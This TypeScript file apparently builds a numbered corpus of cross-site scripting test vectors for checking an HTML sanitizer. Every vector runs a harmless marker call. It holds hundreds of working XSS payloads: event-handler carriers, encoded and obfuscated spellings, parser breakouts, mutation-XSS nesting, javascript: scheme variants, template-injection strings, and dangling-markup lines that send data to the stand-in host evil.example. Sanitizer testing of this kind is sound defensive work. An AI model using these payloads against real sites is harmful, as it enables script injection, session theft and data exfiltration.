/** What a vector runs when it works: the tests' window counts it under the vector's number. */
type Write = (run: string) => string;

const auto = [
  "onerror",
  "onload",
  "ontoggle",
  "onfocus",
  "onbegin",
  "onstart",
  "onanimationstart",
  "onpageshow",
  "onscroll",
  "onpointerenter",
  "oncanplay",
  "onbeforetoggle",
];

/** Elements with what makes the event come by itself. */
const carriers: [element: string, rest: string, event: string][] = [
  ["img", "src=x", "onerror"],
  [
    "img",
    "src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==",
    "onload",
  ],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["body", "", "onpageshow"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["video", "src=data:video/mp4,x", "onloadstart"],
  ["source", "src=x", "onerror"],
  ["track", "src=x", "onerror"],
  ["iframe", "src=about:blank", "onload"],
  ["iframe", "", "onload"],
  ["object", "data=x", "onerror"],
  ["embed", "src=x", "onload"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["button", "autofocus", "onfocus"],
  ["a", "href=# autofocus tabindex=1", "onfocus"],
  ["div", "tabindex=1 autofocus contenteditable", "onfocus"],
  ["p", "style=animation-name:x", "onanimationstart"],
  ["script", "src=x", "onerror"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["style", "", "onload"],
  ["input", "type=image src=x", "onerror"],
  ["frameset", "", "onload"],
  ["math", "", "onload"],
  ["table", "background=x", "onload"],
  ["dialog", "open", "ontoggle"],
  ["x-y", "tabindex=1 autofocus", "onfocus"],
  ["picture", "src=x", "onerror"],
  ["image", "src=x", "onerror"],
  ["applet", "code=x", "onerror"],
  ["keygen", "autofocus", "onfocus"],
  ["h2", "tabindex=1 autofocus", "onfocus"],
  ["td", "tabindex=1 autofocus", "onfocus"],
];

const hex = (text: string): string =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join("");
const decimal = (text: string): string =>
  [...text].map((letter) => `&#${String(letter.codePointAt(0)).padStart(7, "0")}`).join("");
const unicode = (text: string): string =>
  [...text]
    .map((letter) =>
      /[a-z]/i.test(letter) ? `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}` : letter,
    )
    .join("");
const mixed = (text: string): string =>
  [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter.toLowerCase())).join("");

/** The same element and event, spelt as parsers and filters disagree about it. */
const spellings: ((element: string, rest: string, event: string, run: string) => string)[] = [
  (element, rest, event, run) => `<${element} ${rest} ${event}=${run}>`,
  (element, rest, event, run) => `<${element} ${rest} ${event}="${run}">`,
  (element, rest, event, run) => `<${element}/${rest.replaceAll(" ", "/")}/${event}='${run}'>`,
  (element, rest, event, run) => `<${mixed(element)}\n${rest}\t${mixed(event)}\f=\r"${run}"/>`,
  (element, rest, event, run) => `<${element} ${rest} ${event}=${hex(run)}>`,
  (element, rest, event, run) => `<${element} ${rest} ${event}="${decimal(run)}"`,
  (element, rest, event, run) =>
    `<<${element} ${rest} ${event}="${unicode(run.slice(0, run.indexOf("(")))}${run.slice(run.indexOf("("))}">`,
  (element, rest, event, run) => `"'><${element} ${rest} a="<" ${event}=${run}//`,
];

const breakouts = [
  '">',
  "'>",
  "`>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "</noscript>",
  "-->",
  "--!>",
  "]]>",
  "</xmp>",
  "</iframe>",
  "</select>",
  "</template>",
  "</svg>",
  "</math>",
  "</a></p></div>",
  '\\">',
  "{{}}</p>",
  "%>",
  "*/",
  "\u0000>",
  "<!--><",
  "<![CDATA[",
  "</plaintext>",
  "</noembed>",
  "</noframes>",
  "</button></form>",
  "</td></tr></table>",
];

const wrongSchemes = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  "java\tscript:RUN",
  "java\nscript:RUN",
  "\u0001javascript:RUN",
  " javascript:RUN",
  "&#106;avascript:RUN",
  "&#x6A&#x61vascript:RUN",
  "javascript&colon;RUN",
  "javascript&#58;RUN",
  "java&Tab;script:RUN",
  "java&NewLine;script&colon;RUN",
  "javascript://%0aRUN",
  "javascript://example.com/%0D%0ARUN",
  "vbscript:RUN",
  "data:text/html,<script>RUN</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
  "blob:https://example.com/1",
  "feed:javascript:RUN",
  "view-source:javascript:RUN",
  "jar:javascript:RUN",
  "javascript\u200b:RUN",
  "\u202ejavascript:RUN",
  "https:javascript:RUN",
  "mocha:RUN",
  "livescript:RUN",
  "//evil.example/RUN",
  "\\\\evil.example\\RUN",
  "/\\evil.example/RUN",
  "https://youtube.com.evil.example/embed/RUN",
];
const linkHolders: ((address: string) => string)[] = [
  (address) => `<a href="${address}">누르기</a>`,
  (address) => `<iframe src="${address}" allowfullscreen></iframe>`,
  (address) => `<form action="${address}"><input type=submit autofocus></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>누르기</text></a></svg>`,
  (address) => `<img src="${address}">`,
  (address) => `<base href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
];

const handwritten: Write[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT/x>${run}</SCRIPT >`,
  (run) => `<script>${run}`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script\u0000>${run}</script>`,
  (run) => `<\u0000script>${run}</script>`,
  (run) => `<script src=data:text/javascript,${run}></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script xlink:href=data:,${run} /></svg>`,
  (run) => `<svg><script>&#97;lert</script><script>${hex(run)}</script></svg>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x to=1>`,
  (run) =>
    `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>누르기</text></a></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${run}'/></svg>#x"/></svg>`,
  (run) => `<svg><style><img/src=x onerror=${run}//</style></svg>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  (run) =>
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">누르기</maction></math>`,
  (run) => `<math href="javascript:${run}">누르기</math>`,
  (run) =>
    `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<style><a title="</style><img src=x onerror=${run}>">`,
  (run) => `<textarea><a title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<title><a title="</title><img src=x onerror=${run}>">`,
  (run) => `<xmp><a title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<iframe><a title="</iframe><img src=x onerror=${run}>">`,
  (run) => `<noembed><a title="</noembed><img src=x onerror=${run}>">`,
  (run) => `<noframes><a title="</noframes><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<!--<img src="--><img src=x onerror=${run}>">`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!---><img src=x onerror=${run}>-->`,
  (run) => `<!--!><img src=x onerror=${run}>`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
  (run) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]>&y;`,
  (run) => `<%<img src=x onerror=${run}>%>`,
  (run) => `</ <img src=x onerror=${run}>`,
  (run) => `<//img src=x onerror=${run}>`,
  (run) => `<//><img src=x onerror=${run}>`,
  (run) => `<a href="x" title="a>b" onmouseover=${run} style=position:fixed;inset:0>`,
  (run) => `<a href='x' title='"><img src=x onerror=${run}>'>누르기</a>`,
  (run) => `<img alt="<x" title="/><img src=x onerror=${run}>">`,
  (run) => `<img alt='\`' title="\`onerror=${run}" src=x>`,
  (run) => `<p title="&quot;><img src=x onerror=${run}>">`,
  (run) => `<img src="/images/abcdefgh12/960.webp" alt="x" onerror="${run}">`,
  (run) => `<img src='/images/abcdefgh12/960.webp" onerror="${run}' alt=x>`,
  (run) => `<img src=/images/abcdefgh12/960.webp alt='x" onerror="${run}'>`,
  (run) => `<img src=/images/abcdefgh12/960.webp width='1" onerror="${run}' height=1>`,
  (run) => `<img srcset="x 1x, javascript:${run} 2x">`,
  (run) => `<iframe srcdoc="<img src=x onerror=parent.${run}>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  (run) =>
    `<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) =>
    `<iframe src="https://www.youtube.com/embed/abc" onload="${run}" allow="camera *; microphone *" sandbox="allow-scripts allow-same-origin" name=x></iframe>`,
  (run) => `<iframe src="https://www.youtube.com/embed/abc"><img src=x onerror=${run}></iframe>`,
  (run) => `<iframe src="https://www.youtube.com/embed/abc?x=" onload=${run}"></iframe>`,
  (run) => `<iframe src="https://www.youtube.com@evil.example/embed/${run}"></iframe>`,
  (run) => `<iframe src="//www.youtube.com/embed/abc" onload=${run}></iframe>`,
  (run) => `<iframe src="https:/\\evil.example/embed/${run}"></iframe>`,
  (run) => `<iframe src="https://www.youtube.com/redirect?q=javascript:${run}"></iframe>`,
  (run) => `<iframe src="/admin" onload=${run}></iframe>`,
  (run) => `<link rel=import href="data:text/html,<script>${run}</script>">`,
  (run) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${run})}">`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${run}</script>`,
  (run) => `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `<base href="javascript:/a/+${run}//"><a href="x">누르기</a>`,
  (run) => `<base href="//evil.example/"><script src="/x.js">${run}</script>`,
  (run) => `<p style="background:url(javascript:${run})">`,
  (run) => `<p style="width:expression(${run})">`,
  (run) => `<p style="-moz-binding:url(data:text/xml,${run})">`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `<style>*{x:expression(${run})}</style>`,
  (run) =>
    `<p style="position:fixed;inset:0;z-index:9999" onclick=${run}>로그인이 만료되었어요</p>`,
  (run) => `<style>p{animation:x}@keyframes x{}</style><p onanimationend=${run}>`,
  (run) => `<div style="color:red;/*\\";}*/animation-name:x" onanimationstart=${run}>`,
  (run) =>
    `<form id=x></form><button form=x formaction="javascript:${run}" autofocus>누르기</button>`,
  (run) =>
    `<form><input name=attributes><input name=innerHTML><img name=getElementById src=x onerror=${run}></form>`,
  (run) => `<a id=location href="javascript:${run}">누르기</a>`,
  (run) => `<img name=cookie id=currentScript src=x onerror=${run}>`,
  (run) => `<form name=body><input name=firstChild autofocus onfocus=${run}></form>`,
  (run) => `<isindex type=image src=x onerror=${run}>`,
  (run) =>
    `<input type=hidden oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
  (run) => `<button popovertarget=x>누르기</button><p popover id=x onbeforetoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<video poster=javascript:${run}></video>`,
  (run) => `<audio src=x:x onerror=${run}>`,
  (run) => `<bgsound src=javascript:${run}>`,
  (run) => `<layer src=javascript:${run}>`,
  (run) => `<xml onreadystatechange=${run}>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (run) => `<object type="text/x-scriptlet" data="data:,${run}">`,
  (run) => `<embed code="javascript:${run}" src="data:image/svg+xml,<svg onload=${run}>">`,
  (run) => `<table><td><form><table></td></form><img src=x onerror=${run}></table>`,
  (run) => `<table><a href="javascript:${run}">누르기</a><td>`,
  (run) => `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  (run) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<svg><p><style><!--</style><img src=x onerror=${run}>--></style>`,
  (run) => `<svg><desc><![CDATA[</desc><img src=x onerror=${run}>]]></svg>`,
  (run) => `<p id="</p><img src=x onerror=${run}>">`,
  (run) =>
    `<details><summary><svg><title><style><img src=x onerror=${run}></style></title></svg></summary></details>`,
  (run) => `<a><svg><a><img src=x onerror=${run}></a></svg></a>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<!--<script></script><script>${run}</script>`,
  (run) => `\u2028${run}\u2029//`,
  (run) => `";${run};//`,
  (run) => `';${run};//`,
  (run) => `\`;${run};//`,
  (run) => `\\";${run};//`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `[[${run}]]`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `‹img src=x onerror=${run}›`,
  (run) => `\ufeff<img src=x onerror=${run}>`,
  (run) => `__proto__<img src=x onerror=${run}>`,
  (run) => `constructor"><img src=x onerror=${run}>`,
  (run) => `<constructor onfocus=${run} autofocus tabindex=1>`,
  (run) => `<__proto__ onerror=${run} src=x>`,
  (run) => `<img __proto__=x constructor=y src=x onerror=${run}>`,
  (run) => `<hasOwnProperty><img src=x onerror=${run}>`,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `\u202e<img src=x onerror=${run}>\u202c`,
  (run) => `<\u200bimg src=x onerror=${run}>`,
  (run) => `<img\u200b src=x onerror=${run}>`,
  (run) => `<im\u00adg src=x onerror=${run}><img\u3000src=x onerror=${run}>`,
  (run) => `\ud800<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror\u00a0=${run}>`,
  (run) => `<ımg src=x onerror=${run}><ſcript>${run}</ſcript>`,
  (run) => `<img src='https://evil.example/?` + `${run}`,
  (run) => `<a href='https://evil.example/?${run}`,
  (run) => `<textarea>${run}`,
  (run) => `<form action=https://evil.example/${run}><input type=submit value=로그인>`,
  (run) => `<button form=order formaction=https://evil.example/${run}>`,
  (run) => `<link rel=prefetch href=https://evil.example/${run}>`,
  (run) => `<img src=https://evil.example/${run}.gif>`,
  (run) => `<video src=https://evil.example/${run} autoplay>`,
  (run) => `<p style="background:url(https://evil.example/${run})">`,
  (run) => `<meta http-equiv=refresh content="0;https://evil.example/${run}">`,
  (run) => `<a ping=https://evil.example/${run} href=#x>누르기</a>`,
  (run) => `<style>@import url(https://evil.example/${run})</style>`,
  (run) =>
    `<dialog open><form method=dialog><button autofocus onfocus=${run}>확인</button></form></dialog>`,
];

const generated: Write[] = [
  ...carriers.flatMap(([element, rest, event]) =>
    spellings.map(
      (spell): Write =>
        (run) =>
          spell(element, rest, event, run),
    ),
  ),
  ...auto.map(
    (event): Write =>
      (run) =>
        `<x-${event} ${event}=${run} tabindex=1 autofocus style=animation-name:x>누르기</x-${event}>`,
  ),
  ...breakouts.flatMap((breakout): Write[] => [
    (run) => `${breakout}<img src=x onerror=${run}>`,
    (run) => `${breakout}<svg/onload="${run}">`,
  ]),
  ...wrongSchemes.flatMap((scheme) =>
    linkHolders.map(
      (hold): Write =>
        (run) =>
          hold(scheme.replaceAll("RUN", run)),
    ),
  ),
  // Nothing ever ends this one: it comes last.
  (run) => `<plaintext><img src=x onerror=${run}>`,
];

export type Vector = { id: number; text: string };

/** Each runs ran(id) when it works. */
export const vectors: Vector[] = [...handwritten, ...generated].map((write, id) => ({
  id,
  text: write(`ran(${id})`),
}));

/** Ends whatever a vector left open, so that the next one is read as it is meant. */
export const CLOSE =
  "\"'>]]>--></script></style></textarea></title></noscript></template></noembed></noframes></xmp></iframe></select></object></svg></math></a></form></table>";

/** Vectors in one text, each told from the others by what markOf(id) gives, as far as nothing swallows it. */
export const together = (some: readonly Vector[]): string =>
  some.map(({ id, text }) => `<p>${text}${CLOSE}</p><p>${markOf(id)}</p>`).join("\n");

export const markOf = (id: number): string => `vector${id}shown`;
